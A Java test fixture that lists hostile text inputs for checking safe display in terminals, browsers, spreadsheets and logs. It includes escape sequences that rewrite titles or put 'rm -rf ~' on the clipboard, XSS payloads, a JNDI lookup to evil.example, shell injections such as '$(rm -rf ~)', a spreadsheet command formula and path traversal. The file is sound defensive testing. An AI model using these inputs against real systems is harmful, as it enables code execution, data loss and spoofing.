package dev.bivouac;

import java.util.ArrayList;
import java.util.List;

/**
 * Text as a hostile page, tool or model may send it, for everything that shows text: none of it may
 * control a terminal, a browser or a file.
 */
public final class HostileText {
  private static final String ESC = "\033";
  private static final String BEL = "\007";

  private HostileText() {}

  /** All of it. */
  public static List<String> all() {
    var all = new ArrayList<String>();
    all.addAll(terminal());
    all.addAll(controls());
    all.addAll(unicode());
    all.addAll(markup());
    all.addAll(huge());
    return List.copyOf(all);
  }

  /** Escape sequences. */
  public static List<String> terminal() {
    return List.of(
        ESC + "[2J" + ESC + "[H cleared",
        ESC + "[31mred" + ESC + "[0m",
        ESC + "[8mhidden" + ESC + "[28m",
        ESC + "[?1049h another screen",
        ESC + "[?25l no cursor",
        ESC + "[?2026h never drawn",
        ESC + "[9999;9999H far away",
        ESC + "[1A" + ESC + "[2K over the line above",
        ESC + "[6n where am I",
        ESC + "[c who are you",
        ESC + "[21t what is the title",
        ESC + "c reset",
        ESC + "(0 line drawing",
        ESC + "#8 screen of Es",
        ESC + "]0;owned" + BEL + "title",
        ESC + "]2;owned" + ESC + "\\title",
        ESC + "]8;;https://evil.example/" + ESC + "\\the bank" + ESC + "]8;;" + ESC + "\\",
        ESC + "]52;c;cm0gLXJmIH4=" + BEL + "clipboard",
        ESC + "]1337;File=name=eA==;inline=1:AAAA" + BEL,
        ESC + "]777;notify;you;won" + BEL,
        ESC + "P1$r0m" + ESC + "\\ a DCS",
        ESC + "P+q544e" + ESC + "\\ a query",
        ESC + "_Gf=24,s=1,v=1;AAAA" + ESC + "\\ a picture",
        ESC + "^private" + ESC + "\\",
        ESC + "Xstring" + ESC + "\\",
        "unfinished " + ESC);
  }

  /** Sequences cut short, their 8-bit forms, and single control characters. */
  public static List<String> controls() {
    return List.of(
        "unfinished " + ESC + "[",
        "unfinished " + ESC + "]52;c;",
        "\u009b31m C1 red \u009b0m",
        "\u009d0;C1 title\u009c",
        "\u0090C1 DCS\u009c",
        "\u0085next line \u0084index \u008dreverse",
        "bell \007\007\007",
        "over\b\b\b\bwritten",
        "first\rsecond",
        "line\u000bfeed\u000cfeed",
        "NUL\0SOH\001DEL\177",
        "\016shifted out\017",
        "^C is not \003 and ^D is not \004");
  }

  /** Characters that turn, hide, join or pile up; and halves of characters. */
  public static List<String> unicode() {
    return List.of(
        "file\u202egnp.exe",
        "\u2066isolated\u2069 \u2067turned\u2069 \u2068first\u2069 \u202aleft\u202c \u202bright\u202c",
        "marks \u200e\u200f\u061c",
        "in\u200bvis\u2060i\ufeffble\u00ad",
        "\u200d\u200d\u200d\u200djoiners",
        "tags \udb40\udc61\udb40\udc62\udb40\udc63",
        "Z\u0335\u0321\u0322\u0345\u0316a\u0335\u0321l\u0335\u0321g\u0335o\u0335\u0321\u0322",
        "\u0301 begins with an accent",
        "high \ud83d alone, low \ude00 alone, \ude00\ud83d turned round",
        "line\u2028separator paragraph\u2029separator",
        "family \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 flag \ud83c\uddeb\ud83c\uddf7 hand \ud83d\udc4b\ud83c\udfff heart \u2764\ufe0f",
        "\u6f22\u5b57\u304b\u306a\ud55c\uae00 wide \uff37\uff29\uff24\uff25",
        "\u0645\u0631\u062d\u0628\u0627 123 \u05e9\u05dc\u05d5\u05dd 456",
        "\u0e01\u0e34\u0e19\u0e02\u0e49\u0e32\u0e27 \u0928\u092e\u0938\u094d\u0924\u0947",
        "private \ue000 unassigned \u0378 noncharacter \uffff \udbff\udfff",
        "\ufffc\ufffd\ufff9annotated\ufffa\ufffb");
  }

  /** For browsers, spreadsheets, shells and logs. */
  public static List<String> markup() {
    return List.of(
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'onmouseover='alert(1)",
        "</title></style></textarea></script><svg/onload=alert(1)>",
        "<!-- --><![CDATA[ ]]>",
        "[click](javascript:alert(1)) ![x](data:text/html,<script>alert(1)</script>)",
        "&lt;b&gt; &#60;i&#62; &amp;",
        "%s %n %1$s {0} ${jndi:ldap://evil.example/a} $(rm -rf ~) `id`",
        "=cmd|' /C calc'!A0",
        "../../../../etc/passwd\0.md",
        "two\nlines\r\nthree\r\rfour\n\n\n\nfive\ttab");
  }

  /** Far more than fits anywhere. */
  public static List<String> huge() {
    return List.of(
        "x".repeat(100_000),
        "\u6f22".repeat(100_000),
        "a" + "\u0301".repeat(100_000),
        "\u200b".repeat(100_000),
        " ".repeat(100_000) + "end",
        "word ".repeat(20_000),
        "\n".repeat(100_000),
        (ESC + "[5m").repeat(20_000),
        "\ud83d\ude00".repeat(50_000));
  }
}
